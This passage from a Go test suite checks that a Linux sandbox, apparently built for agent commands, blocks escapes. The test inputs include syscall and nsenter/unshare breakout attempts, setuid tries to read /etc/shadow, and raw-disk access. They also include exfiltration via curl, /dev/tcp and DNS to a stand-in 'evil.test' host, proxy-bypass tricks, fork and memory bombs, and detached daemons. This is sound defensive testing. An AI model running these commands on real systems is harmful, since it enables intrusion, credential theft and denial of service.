		if f := strings.Fields(string(b[bytes.LastIndexByte(b, ')')+1:])); len(f) == 0 || f[0] != "S" && f[0] != "R" {
			t.Errorf("host process %d is in state %v", pid, f[:1])
		}
	}
	if t.Failed() {
		t.Logf("all output:\n%s", all.String())
	}
}

// --- namespaces, mounts, privileges ----------------------------------------------

// escSyscalls tries the escape system calls by number (amd64) and prints
// "name ret errno" for each.
const escSyscalls = `python3 - <<'EOF'
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
AH = os.environ["AH"].encode()
buf = ctypes.create_string_buffer(256)
def sc(name, nr, *a):
    args = [ctypes.c_char_p(x) if isinstance(x, bytes) else ctypes.c_long(x) for x in a]
    r = libc.syscall(ctypes.c_long(nr), *args)
    if r == 0 and name.startswith("clone"):
        os._exit(0)
    print(name, r, errno.errorcode.get(ctypes.get_errno(), "?") if r < 0 else "ok", flush=True)
sc("getpid", 39)
sc("mount", 165, b"none", AH, b"tmpfs", 0, 0)
sc("mount-bind", 165, b"/", AH, 0, 0x1000, 0)
sc("umount2", 166, AH, 0)
sc("umount2-detach", 166, AH, 2)
sc("pivot_root", 155, b"/", b"/")
sc("chroot", 161, b"/")
sc("unshare-user", 272, 0x10000000)
sc("unshare-mnt", 272, 0x00020000)
sc("unshare-net", 272, 0x40000000)
sc("setns", 308, 0, 0)
sc("clone-newuser", 56, 0x10000000 | 17, 0, 0, 0, 0)
sc("clone-newns", 56, 0x00020000 | 17, 0, 0, 0, 0)
sc("clone3", 435, 0, 0)
sc("bpf", 321, 5, 0, 0)
sc("keyctl", 250, 0, 0, 0, 0, 0)
sc("add_key", 248, b"user", b"x", b"y", 1, 0xfffffffd)
sc("request_key", 249, b"user", b"x", 0, 0)
sc("open_tree", 428, -100, AH, 1)
sc("move_mount", 429, -100, AH, -100, b"/", 0)
sc("fsopen", 430, b"tmpfs", 0)
sc("fsmount", 432, 0, 0, 0)
sc("fspick", 433, -100, AH, 0)
sc("mount_setattr", 442, -100, AH, 0, 0, 0)
sc("perf_event_open", 298, 0, 0, -1, -1, 0)
sc("userfaultfd", 323, 0)
sc("kexec_load", 246, 0, 0, 0, 0)
sc("init_module", 175, 0, 0, b"")
sc("name_to_handle_at", 303, -100, AH, 0, 0, 0)
sc("open_by_handle_at", 304, -100, 0, 0)
sc("syslog", 103, 3, ctypes.addressof(buf), 256)
sc("kcmp", 312, 1, 1, 0, 0, 0)
sc("iopl", 172, 3)
sc("ioperm", 173, 0, 1024, 1)
sc("reboot", 169, 0xfee1dead, 672274793, 0x4321fedc, 0)
sc("swapon", 167, b"/dev/null", 0)
sc("acct", 163, b"/dev/null")
sc("settimeofday", 164, 0, 0)
sc("x32-getpid", 0x40000000 + 39)
EOF`

// TestEscapeNamespacesAndMounts: mounting, unmounting the hidden home,
// new namespaces, entering others, chroot, pivot_root, bpf, keyrings
// and the other escape calls fail, and the hidden home stays empty.
func TestEscapeNamespacesAndMounts(t *testing.T) {
	t.Parallel()
	escNeed(t, "python3")
	w := newEscWorld(t)
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetOff}, Options{})
	env := w.env("AH=" + w.agentHome)
	check := `
echo "--hidden: $(ls -A "$AH" | wc -l) $(cat "$AH/.env" 2>/dev/null)"`
	for _, a := range []string{
		`mount -t tmpfs none "$AH"`,
		`umount "$AH"`,
		`umount -l "$AH"`,
		`umount -a`,
		`umount -R /`,
		`mount --bind / ./root && cat ./root"$AH/.env"`,
		`mount -o remount,rw "$AH"`,
		`unshare -r sh -c 'umount -l "$AH"; cat "$AH/.env"'`,
		`unshare -U -m sh -c 'umount -l "$AH"; cat "$AH/.env"'`,
		`unshare -m sh -c 'umount -l "$AH"; cat "$AH/.env"'`,
		`unshare -n true`,
		`unshare -p -f --mount-proc true`,
		`nsenter -t 1 -m -U --preserve-credentials cat "$AH/.env"`,
		`nsenter -t 1 -a cat "$AH/.env"`,
		`nsenter --mount=/proc/1/ns/mnt cat "$AH/.env"`,
		`chroot / cat "$AH/.env"`,
		`mkdir -p new/old && pivot_root new new/old`,
		`cat /proc/1/root"$AH/.env"`,
	} {
		out, _ := escRun(t, sb, w.project, env, 10*time.Second, a+check)
		w.noLeak(t, a, out)
		if !strings.Contains(out, "--hidden: 0 \n") {
			t.Errorf("%s: the hidden home is not empty afterwards:\n%s", a, out)
		}
	}
	if runtime.GOARCH == "amd64" {
		out, _ := escRun(t, sb, w.project, env, 10*time.Second, escSyscalls+check)
		w.noLeak(t, "system calls", out)
		got := map[string][]string{}
		for _, l := range strings.Split(out, "\n") {
			if f := strings.Fields(l); len(f) == 3 {
				got[f[0]] = f[1:]
			}
		}
		if r := got["getpid"]; len(r) != 2 || r[1] != "ok" {
			t.Fatalf("positive control: getpid through the harness failed:\n%s", out)
		}
		for name, r := range got {
			switch {
			case name == "getpid":
			case r[1] == "ok":
				t.Errorf("%s succeeded in the sandbox", name)
			case name == "clone3" && r[1] != "ENOSYS":
				t.Errorf("clone3: %s, want ENOSYS", r[1])
			case name != "clone3" && r[1] != "EPERM":
				t.Errorf("%s: %s, want EPERM", name, r[1])
			}
		}
		if !strings.Contains(out, "--hidden: 0 \n") {
			t.Errorf("the hidden home is not empty after the system calls:\n%s", out)
		}
	}
	// No mount of the sandbox shows up on the host.
	mi, _ := os.ReadFile("/proc/self/mountinfo")
	if strings.Contains(string(mi), w.base) {
		t.Errorf("host: a mount under the test's directory:\n%s", mi)
	}
	for p, c := range w.canaries {
		if b, _ := os.ReadFile(p); string(b) != c {
			t.Errorf("host: %s changed", p)
		}
	}
}

// TestEscapeCapabilities: no capability in any set, no_new_privs and a
// seccomp filter, and set-user-id programs give nothing.
func TestEscapeCapabilities(t *testing.T) {
	t.Parallel()
	w := newEscWorld(t)
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetOff}, Options{})
	shadow := escSnapshot(t, "/etc/shadow")
	passwd := escSnapshot(t, "/etc/passwd")
	out, code := escRun(t, sb, w.project, w.env(), 10*time.Second, `grep -E '^(Cap|NoNewPrivs|Seccomp:)' /proc/self/status`)
	if code != 0 {
		t.Fatalf("reading /proc/self/status: %d %s", code, out)
	}
	for _, want := range []string{"CapInh:\t0000000000000000", "CapPrm:\t0000000000000000", "CapEff:\t0000000000000000",
		"CapBnd:\t0000000000000000", "CapAmb:\t0000000000000000", "NoNewPrivs:\t1", "Seccomp:\t2"} {
		if !strings.Contains(out, want) {
			t.Errorf("want %q in /proc/self/status:\n%s", want, out)
		}
	}
	var setuid []string
	for _, p := range []string{"/usr/bin/su", "/bin/su", "/usr/bin/sudo", "/usr/bin/passwd", "/usr/bin/mount", "/bin/mount", "/usr/bin/newgrp", "/usr/bin/chsh", "/usr/bin/gpasswd", "/usr/bin/ping"} {
		if st, err := os.Stat(p); err == nil && st.Mode()&os.ModeSetuid != 0 {
			setuid = append(setuid, p)
		}
	}
	script := `for b in ` + strings.Join(setuid, " ") + `; do
		case $b in
		*su) $b -c 'grep CapEff /proc/self/status; cat /etc/shadow' root ;;
		*sudo) $b -n grep CapEff /proc/self/status ;;
		*passwd) $b -d root; $b -u root ;;
		*mount) $b -t tmpfs none /mnt ;;
		*) $b --help >/dev/null 2>&1 ;;
		esac
		echo "$b: $?"
	done
	capsh --print 2>/dev/null | grep -i current
	cp /usr/bin/id ./id-copy && setcap cap_setuid,cap_dac_override+ep ./id-copy; echo "setcap: $?"`
	out, _ = escRun(t, sb, w.project, w.env(), 20*time.Second, script)
	for _, l := range strings.Split(out, "\n") {
		if strings.HasPrefix(l, "CapEff:") && !strings.Contains(l, "0000000000000000") {
			t.Errorf("a set-user-id program gained capabilities: %s", l)
		}
		if strings.Contains(l, "$6$") || strings.Contains(l, "$y$") || strings.Contains(l, "root:*:") || strings.Contains(l, "root:!") {
			t.Errorf("/etc/shadow leaked: %s", l)
		}
	}
	if strings.Contains(out, "setcap: 0") {
		t.Errorf("a file capability was set in the workspace:\n%s", out)
	}
	if c, err := exec.Command("getcap", filepath.Join(w.project, "id-copy")).Output(); err == nil && len(bytes.TrimSpace(c)) > 0 {
		t.Errorf("host: %s", c)
	}
	escSameSnapshot(t, shadow, escSnapshot(t, "/etc/shadow"))
	escSameSnapshot(t, passwd, escSnapshot(t, "/etc/passwd"))
}

// TestEscapeRawDisk: no block device is reachable: none in /dev, none
// can be made, and the host's disks cannot be opened by any path.
func TestEscapeRawDisk(t *testing.T) {
	t.Parallel()
	escNeed(t, "python3")
	var disks []string
	ents, _ := os.ReadDir("/dev")
	for _, e := range ents {
		if e.Type()&fs.ModeDevice != 0 && e.Type()&fs.ModeCharDevice == 0 {
			disks = append(disks, "/dev/"+e.Name())
		}
	}
	disks = append(disks, "/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/kvm", "/dev/fuse", "/dev/loop-control")
	w := newEscWorld(t)
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetOff}, Options{})
	out, _ := escRun(t, sb, w.project, w.env(), 20*time.Second, `
		ls /dev
		find / -xdev -type b 2>/dev/null | head
		find /dev /tmp /run /var /home -type b 2>/dev/null | head
		mknod ./blk b 254 0; echo "mknod: $?"
		mknod ./mem c 1 1; echo "mknod-mem: $?"
		python3 - `+strings.Join(disks, " ")+` <<'EOF'
import os, sys
for d in sys.argv[1:]:
    for flags in (os.O_RDONLY, os.O_RDWR):
        try:
            fd = os.open(d, flags)
            print("OPENED", d, len(os.read(fd, 512)))
        except Exception as e:
            print("refused", d, type(e).__name__)
EOF
		head -c 16 /dev/urandom | wc -c; echo x > /dev/null && echo null-ok`)
	if strings.Contains(out, "OPENED") {
		t.Errorf("a device opened in the sandbox:\n%s", out)
	}
	if strings.Contains(out, "mknod: 0") || strings.Contains(out, "mknod-mem: 0") {
		t.Errorf("a device node was made:\n%s", out)
	}
	for _, l := range strings.Split(out, "\n") {
		for _, d := range disks {
			if l == strings.TrimPrefix(d, "/dev/") || l == d {
				t.Errorf("%s is present in the sandbox:\n%s", d, out)
			}
		}
	}
	if !strings.Contains(out, "16\n") || !strings.Contains(out, "null-ok") {
		t.Errorf("positive control: /dev/urandom or /dev/null does not work:\n%s", out)
	}
}

// --- the network ------------------------------------------------------------------

// escListener counts what reaches a TCP and a UDP port of every address
// of this machine.
type escListener struct {
	tcp   net.Listener
	udp   net.PacketConn
	port  int
	conns atomic.Int64
	bytes atomic.Int64
	mu    sync.Mutex
	got   bytes.Buffer
}

func newEscListener(t *testing.T) *escListener {
	t.Helper()
	l := &escListener{}
	var err error
	for i := 0; i < 20; i++ {
		if l.tcp, err = net.Listen("tcp", ":0"); err != nil {
			t.Fatal(err)
		}
		l.port = l.tcp.Addr().(*net.TCPAddr).Port
		if l.udp, err = net.ListenPacket("udp", fmt.Sprintf(":%d", l.port)); err == nil {
			break
		}
		l.tcp.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.tcp.Close(); l.udp.Close() })
	go func() {
		for {
			c, err := l.tcp.Accept()
			if err != nil {
				return
			}
			l.conns.Add(1)
			go func() {
				defer c.Close()
				c.SetDeadline(time.Now().Add(5 * time.Second))
				b, _ := io.ReadAll(c)
				l.add(b)
			}()
		}
	}()
	go func() {
		buf := make([]byte, 64<<10)
		for {
			n, _, err := l.udp.ReadFrom(buf)
			if err != nil {
				return
			}
			l.conns.Add(1)
			l.add(buf[:n])
		}
	}()
	return l
}

func (l *escListener) add(b []byte) {
	l.bytes.Add(int64(len(b)))
	l.mu.Lock()
	l.got.Write(b)
	l.mu.Unlock()
}

// control proves the listener hears this machine, then forgets it.
func (l *escListener) control(t *testing.T) {
	t.Helper()
	c, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", l.port))
	if err != nil {
		t.Fatalf("positive control: the host listener: %v", err)
	}
	c.Write([]byte("control"))
	c.Close()
	if !escWaitFor(2*time.Second, func() bool { return l.bytes.Load() == int64(len("control")) }) {
		t.Fatalf("positive control: the host listener heard %d bytes", l.bytes.Load())
	}
	l.conns.Store(0)
	l.bytes.Store(0)
	l.mu.Lock()
	l.got.Reset()
	l.mu.Unlock()
}

// hostAddrs are this machine's addresses (loopback included).
func escHostAddrs() []string {
	var out []string
	addrs, _ := net.InterfaceAddrs()
	for _, a := range addrs {
		if ipn, ok := a.(*net.IPNet); ok && !ipn.IP.IsLinkLocalUnicast() {
			out = append(out, ipn.IP.String())
		}
	}
	return out
}

// escReach is the attack on a host address and port from every tool.
const escReach = `for A in $ADDRS; do
	timeout 3 bash -c "exec 3<>/dev/tcp/$A/$PORT && echo leak-bash-$A >&3" && echo "REACHED bash $A"
	timeout 3 python3 -c 'import socket,sys; s=socket.create_connection((sys.argv[1], int(sys.argv[2])), 2); s.sendall(b"leak-python"); print("REACHED python", sys.argv[1])' $A $PORT
	timeout 3 python3 -c 'import socket,sys; s=socket.socket(socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"leak-udp", (sys.argv[1], int(sys.argv[2])))' $A $PORT
	case $A in *:*) U="[$A]";; *) U=$A;; esac
	timeout 3 curl -s -m 2 --noproxy '*' -d leak-curl "http://$U:$PORT/" -o /dev/null && echo "REACHED curl $A"
done`

// TestEscapeNetworkOff: with the network off, nothing reaches a listener
// on any of this machine's addresses, over TCP or UDP, while loopback
// inside the sandbox works.
func TestEscapeNetworkOff(t *testing.T) {
	t.Parallel()
	escNeed(t, "python3", "curl")
	l := newEscListener(t)
	l.control(t)
	w := newEscWorld(t)
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetOff}, Options{})
	env := w.env("ADDRS="+strings.Join(escHostAddrs(), " "), fmt.Sprintf("PORT=%d", l.port))
	out, _ := escRun(t, sb, w.project, env, 40*time.Second, escReach+`
		getent hosts example.com && echo RESOLVED`)
	if strings.Contains(out, "REACHED") || strings.Contains(out, "RESOLVED") {
		t.Errorf("the host network was reached:\n%s", out)
	}
	ifaces, _ := escRun(t, sb, w.project, env, 10*time.Second, `tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '`)
	if f := strings.Fields(ifaces); len(f) != 1 || f[0] != "lo" {
		t.Errorf("want only lo in the sandbox, got %q", f)
	}
	// Positive control: the sandbox's own loopback carries TCP.
	ctl, code := escRun(t, sb, w.project, env, 10*time.Second, `python3 - <<'EOF'
import socket, threading
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()
threading.Thread(target=lambda: print(s.accept()[0].recv(10).decode()), daemon=True).start()
c = socket.create_connection(s.getsockname()); c.sendall(b"loop-ok"); c.close()
import time; time.sleep(0.3)
EOF`)
	if code != 0 || !strings.Contains(ctl, "loop-ok") {
		t.Errorf("positive control: loopback inside the sandbox (%d): %s", code, ctl)
	}
	time.Sleep(200 * time.Millisecond)
	if n := l.conns.Load(); n > 0 || l.bytes.Load() > 0 {
		l.mu.Lock()
		t.Errorf("host: the listener received %d connections/datagrams: %q", n, l.got.String())
		l.mu.Unlock()
	}
}

// escDials records what the allow-list proxy dialled, and maps
// allowed.test:80 to a server of the test.
type escDials struct {
	mu    sync.Mutex
	addrs []string
	to    string
}

func (d *escDials) dial(ctx context.Context, network, addr string) (net.Conn, error) {
	d.mu.Lock()
	d.addrs = append(d.addrs, addr)
	d.mu.Unlock()
	if addr == "allowed.test:80" {
		var nd net.Dialer
		return nd.DialContext(ctx, "tcp", d.to)
	}
	return nil, errors.New("the test's dialer reaches only allowed.test:80")
}

func (d *escDials) list() []string {
	d.mu.Lock()
	defer d.mu.Unlock()
	return slices.Clone(d.addrs)
}

// TestEscapeNetworkAllowList: through the proxy only the allowed host is
// reached; other hosts get 403 and no dial, and nothing reaches a host
// listener directly, around the proxy, over UDP or DNS.
func TestEscapeNetworkAllowList(t *testing.T) {
	t.Parallel()
	escNeed(t, "python3", "curl")
	var received atomic.Int64
	allowed := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		received.Add(int64(len(b)))
		fmt.Fprintf(rw, "allowed-ok %s %s", r.Host, r.URL.Path)
	}))
	t.Cleanup(allowed.Close)
	l := newEscListener(t)
	l.control(t)
	dials := &escDials{to: allowed.Listener.Addr().String()}
	w := newEscWorld(t)
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetAllow, Allow: []string{"allowed.test"}},
		Options{Dial: dials.dial})
	exfil := filepath.Join(w.project, "exfil.txt")
	os.WriteFile(exfil, []byte("EXFIL-"+w.token), 0o644)
	env := w.env("ADDRS="+strings.Join(escHostAddrs(), " "), fmt.Sprintf("PORT=%d", l.port))

	// Positive controls: the allowed host through the proxy, by the
	// environment and by -x.
	out, code := escRun(t, sb, w.project, env, 15*time.Second, `curl -sS -m 5 http://allowed.test/env; echo; curl -sS -m 5 -x http://127.0.0.1:3128 http://allowed.test/x`)
	if code != 0 || !strings.Contains(out, "allowed-ok allowed.test /env") || !strings.Contains(out, "allowed-ok allowed.test /x") {
		t.Fatalf("positive control: the allowed host through the proxy (%d):\n%s", code, out)
	}
	if d := dials.list(); len(d) != 2 {
		t.Fatalf("positive control: want 2 dials of allowed.test:80, got %v", d)
	}
	dials.mu.Lock()
	dials.addrs = nil
	dials.mu.Unlock()

	out, _ = escRun(t, sb, w.project, env, 60*time.Second, escReach+`
		P=http://127.0.0.1:3128
		curl -sS -m 5 http://evil.test/; echo " [evil]"
		curl -sS -m 5 -T exfil.txt http://evil.test/upload; echo " [upload]"
		curl -sS -m 5 --noproxy "" -x $P -T exfil.txt http://evil.test/upload; echo " [upload -x]"
		curl -sS -m 5 --noproxy "" -x $P http://127.0.0.1:$PORT/; echo " [proxy to 127.0.0.1]"
		curl -sS -m 5 --noproxy "" -x $P "http://allowed.test@127.0.0.1:$PORT/"; echo " [userinfo]"
		curl -sS -m 5 --noproxy "" -x $P "http://127.0.0.1:$PORT/" -H "Host: allowed.test"; echo " [host header]"
		curl -sS -m 5 --noproxy "" -x $P -p "https://evil.test/"; echo " [connect evil]"
		curl -sS -m 5 --noproxy "" -x $P -p "http://localhost:$PORT/"; echo " [connect localhost]"
		curl -sS -m 5 --noproxy "" -x $P "http://evil.test./"; echo " [trailing dot]"
		curl -sS -m 5 --noproxy "" -x $P "http://allowed.test.evil.test/"; echo " [suffix]"
		curl -sS -m 5 --noproxy "" -x $P "http://evilallowed.test/"; echo " [prefix]"
		curl -sS -m 5 --noproxy '*' http://allowed.test/; echo " [noproxy allowed]"
		curl -sS -m 5 --noproxy '*' "http://127.0.0.1:$PORT/"; echo " [noproxy host]"
		printf 'GET / HTTP/1.1\r\nHost: 127.0.0.1:%s\r\n\r\n' $PORT | timeout 3 python3 -c 'import socket,sys; s=socket.create_connection(("127.0.0.1",3128)); s.sendall(sys.stdin.buffer.read()); print(s.recv(200))'
		printf 'GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n' | timeout 3 python3 -c 'import socket,sys; s=socket.create_connection(("127.0.0.1",3128)); s.sendall(sys.stdin.buffer.read()); import time; time.sleep(1); print(s.recv(2000))'
		getent hosts evil.test && echo RESOLVED
		python3 -c 'import socket; print(socket.getaddrinfo("exfil-'$(head -c 8 exfil.txt)'.evil.test", 80)); print("RESOLVED")'
		python3 -c 'import socket,sys; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04leak\x04evil\x04test\x00\x00\x01\x00\x01", ("127.0.0.1", int(sys.argv[1])))' $PORT`)
	if strings.Contains(out, "REACHED") || strings.Contains(out, "RESOLVED") {
		t.Errorf("the host network was reached around the proxy:\n%s", out)
	}
	if c := strings.Count(out, "is not allowed (sandbox.network_allow)"); c < 8 {
		t.Errorf("want the proxy's 403 for each refused host, got %d:\n%s", c, out)
	}
	for _, d := range dials.list() {
		if d != "allowed.test:80" {
			t.Errorf("the proxy dialled %s", d)
		}
	}
	time.Sleep(200 * time.Millisecond)
	if n := l.conns.Load(); n > 0 || l.bytes.Load() > 0 {
		l.mu.Lock()
		t.Errorf("host: the listener received %d connections/datagrams: %q", n, l.got.String())
		l.mu.Unlock()
	}
	if strings.Contains(out, "EXFIL-") {
		t.Logf("note: the upload's content was echoed back:\n%s", out)
	}
}

// --- resources and lifetime ----------------------------------------------------------

// TestEscapeForkBomb: a fork bomb stays within Limits.Procs, this machine
// stays responsive, and when the command ends nothing of it remains.
func TestEscapeForkBomb(t *testing.T) {
	t.Parallel()
	const procs = 64
	w := newEscWorld(t)
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetOff, Limits: Limits{Procs: procs}}, Options{})
	marker := "bomb" + w.token
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	out := &escBuffer{}
	// exec keeps the first process (the pid namespace's init) alive for
	// 4 s without a fork, while the bomb saturates the ceiling.
	p, err := sb.Start(ctx, Cmd{Args: []string{"/bin/bash", "-c", ": " + marker + "; b(){ b | b & }; b; exec sleep 4"}, Dir: w.project, Env: w.env(), Stdout: out, Stderr: out})
	if err != nil {
		t.Fatal(err)
	}
	most := 0
	sawBomb := false
	for i := 0; i < 10; i++ {
		n := len(escProcs(marker))
		most = max(most, n)
		if n > 4 {
			sawBomb = true
		}
		start := time.Now()
		if err := exec.Command("/bin/true").Run(); err != nil || time.Since(start) > 2*time.Second {
			t.Errorf("host: /bin/true took %v (%v) during the bomb", time.Since(start), err)
		}
		time.Sleep(150 * time.Millisecond)
	}
	select {
	case <-p.Done():
	case <-ctx.Done():
		p.Kill()
		t.Fatal("the fork bomb's command did not end")
	}
	p.Wait()
	if !sawBomb {
		t.Fatalf("positive control: the bomb never ran (at most %d processes):\n%.2000s", most, out.String())
	}
	if most > procs {
		t.Errorf("host: %d processes of the bomb at once, the ceiling is %d", most, procs)
	}
	if left := escProcs(marker); len(left) > 0 {
		t.Errorf("host: %d processes of the bomb remain after the command: %v", len(left), left)
	}
	// The sandbox itself survived and runs the next command.
	if o, code := escRun(t, sb, w.project, w.env(), 10*time.Second, `echo alive`); code != 0 || !strings.Contains(o, "alive") {
		t.Errorf("the sandbox does not run a command after the bomb (%d): %s", code, o)
	}
}

// TestEscapeMemoryBomb: one process asking for 2 GiB fails or is
// killed, several together stay under Limits.Memory, and the host
// process survives.
func TestEscapeMemoryBomb(t *testing.T) {
	t.Parallel()
	escNeed(t, "python3")
	limit := int64(256 << 20)
	if escRace() {
		// The race detector's runtime in the init needs more than 256 MiB
		// of data segment itself.
		limit = 512 << 20
	}
	w := newEscWorld(t)
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetOff, Limits: Limits{Memory: limit}}, Options{})
	out, code := escRun(t, sb, w.project, w.env(), 20*time.Second, `python3 -c 'b = bytearray(2 << 30); b[::4096] = b"x" * len(b[::4096]); print("ALLOCATED")'`)
	if code == 0 || strings.Contains(out, "ALLOCATED") {
		t.Errorf("2 GiB allocated under a 256 MiB ceiling (%d):\n%s", code, out)
	}
	// Four processes of 200 MiB each: each is under the per-process
	// ceiling, together they are over the sandbox's.
	marker := "mem" + w.token
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	buf := &escBuffer{}
	script := ": " + marker + `; for i in 1 2 3 4; do python3 -c 'import time; b = b"\x01" * (200 << 20); print("held", flush=True); time.sleep(8); print("released", flush=True)' ` + marker + ` & done; wait; echo done`
	p, err := sb.Start(ctx, Cmd{Args: []string{"/bin/bash", "-c", script}, Dir: w.project, Env: w.env(), Stdout: buf, Stderr: buf})
	if err != nil {
		t.Fatal(err)
	}
	var most int64
	for !escWaitFor(100*time.Millisecond, func() bool {
		select {
		case <-p.Done():
			return true
		default:
			return false
		}
	}) {
		most = max(most, escRSS(marker))
	}
	p.Wait()
	if most < 100<<20 {
		t.Fatalf("positive control: the processes never held memory (at most %d MiB):\n%s", most>>20, buf.String())
	}
	if most > limit+32<<20 {
		t.Errorf("host: the sandbox's processes held %d MiB together, the ceiling is %d MiB", most>>20, limit>>20)
	}
	// Each prints "held" once its 200 MiB are resident and "released"
	// after holding them 8 s, so the four overlap. The OOM killer takes
	// the largest process, often one that already said "held", so "held"
	// four times proves nothing; all four reaching "released" means none
	// was killed, so 800 MiB were held under the ceiling.
	released := 0
	for _, l := range strings.Split(buf.String(), "\n") {
		if l == "released" {
			released++
		}
	}
	if released == 4 {
		t.Errorf("all four 200 MiB processes held their memory to the end under a %d MiB ceiling:\n%s", limit>>20, buf.String())
	}
	if left := escProcs(marker); len(left) > 0 {
		t.Errorf("host: processes remain: %v", left)
	}
}

// escRace tells whether this test binary has the race detector, whose
// runtime needs more memory.
func escRace() bool {
	bi, ok := debug.ReadBuildInfo()
	if !ok {
		return false
	}
	for _, s := range bi.Settings {
		if s.Key == "-race" && s.Value == "true" {
			return true
		}
	}
	return false
}

// TestEscapeDaemons: what a command leaves running (setsid, nohup, a
// double fork, disown, a python daemon) ends with it.
func TestEscapeDaemons(t *testing.T) {
	t.Parallel()
	escNeed(t, "python3", "setsid", "nohup")
	w := newEscWorld(t)
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetOff}, Options{})
	n := 900000 + int(time.Now().UnixNano()%90000)
	markers := []string{}
	for i := 0; i < 5; i++ {
		markers = append(markers, fmt.Sprintf("sleep %d", n*10+i))
	}
	script := fmt.Sprintf(`
		setsid nohup sleep %[1]d0 >/dev/null 2>&1 &
		( sleep %[1]d1 & ) &
		sleep %[1]d2 & disown
		nohup sh -c 'sleep %[1]d3' >/dev/null 2>&1 &
		python3 -c 'import os,sys
if os.fork(): sys.exit(0)
os.setsid()
if os.fork(): sys.exit(0)
os.execvp("sleep", ["sleep", "%[1]d4"])' &
		sleep 1.5; echo started`, n)
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	out := &escBuffer{}
	p, err := sb.Start(ctx, Cmd{Args: []string{"/bin/bash", "-c", script}, Dir: w.project, Env: w.env(), Stdout: out, Stderr: out})
	if err != nil {
		t.Fatal(err)
	}
	// Positive control: every daemon runs while the command does.
	if !escWaitFor(5*time.Second, func() bool {
		for _, m := range markers {
			if len(escProcs(m)) == 0 {
				return false
			}
		}
		return true
	}) {
		for _, m := range markers {
			t.Logf("%s: %v", m, escProcs(m))
		}
		t.Fatalf("positive control: the daemons did not all start:\n%s", out.String())
	}
	if code, err := p.Wait(); err != nil || code != 0 {
		t.Fatalf("the command: %d %v\n%s", code, err, out.String())
	}
	for _, m := range markers {
		if left := escProcs(m); len(left) > 0 {
			t.Errorf("host: %q outlived its command: %v", m, left)
		}
	}
}

// TestEscapeCloseLeavesNothing: after Close no process of the sandbox
// remains, nor its /tmp or its cgroups.
func TestEscapeCloseLeavesNothing(t *testing.T) {
	t.Parallel()
	escNeed(t, "setsid")
	w := newEscWorld(t)
	sb, err := Start(context.Background(), Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetAllow, Allow: []string{"x.test"}}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	marker := fmt.Sprintf("%d", 800000000+time.Now().UnixNano()%100000000)
	out := &escBuffer{}
	for _, s := range []string{"sleep " + marker, "setsid sleep " + marker + " & sleep " + marker} {
		if _, err := sb.Start(context.Background(), Cmd{Args: []string{"/bin/bash", "-c", s}, Dir: w.project, Env: w.env(), Stdout: out, Stderr: out}); err != nil {
			t.Fatal(err)
		}
	}
	if !escWaitFor(5*time.Second, func() bool { return len(escProcs("sleep "+marker)) >= 3 }) {
		t.Fatalf("positive control: the background commands are not running: %v %s", escProcs("sleep "+marker), out.String())
	}
	initPid := sb.init.Process.Pid
	cg, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cgroup", initPid))
	var cgDirs []string
	for _, l := range strings.Split(string(cg), "\n") {
		parts := strings.SplitN(l, ":", 3)
		if len(parts) == 3 && strings.Contains(parts[2], "hermes-sandbox-") {
			for _, ctl := range strings.Split(parts[1], ",") {
				cgDirs = append(cgDirs, filepath.Join("/sys/fs/cgroup", ctl, parts[2]))
			}
		}
	}
	tmp := sb.TmpDir()
	if err := sb.Close(); err != nil {
		t.Fatal(err)
	}
	if left := escProcs("sleep " + marker); len(left) > 0 {
		t.Errorf("host: processes remain after Close: %v", left)
	}
	// Close returns once the init is dead; its reaping (by the goroutine
	// waiting for it) may lag by a moment, as a zombie that runs nothing.
	if !escWaitFor(time.Second, func() bool {
		_, err := os.Stat(fmt.Sprintf("/proc/%d", initPid))
		return err != nil
	}) {
		st, _ := os.ReadFile(fmt.Sprintf("/proc/%d/stat", initPid))
		t.Errorf("host: the init (%d) remains after Close: %s", initPid, st)
	}
	if _, err := os.Stat(tmp); err == nil {
		t.Errorf("host: the sandbox's /tmp %s remains", tmp)
	}
	for _, d := range cgDirs {
		if _, err := os.Stat(d); err == nil {
			t.Errorf("host: the cgroup %s remains", d)
		}
	}
	if _, err := sb.Start(context.Background(), Cmd{Args: []string{"/bin/true"}}); err == nil {
		t.Error("a closed sandbox started a command")
	}
}

// TestEscapeAbstractSocket: with the host's network shared, the host's
// abstract unix sockets are still out of reach (Landlock's scoping).
func TestEscapeAbstractSocket(t *testing.T) {
	t.Parallel()
	escNeed(t, "python3")
	if LandlockABI() < 6 {
		t.Skip("Landlock scoping needs ABI 6")
	}
	w := newEscWorld(t)
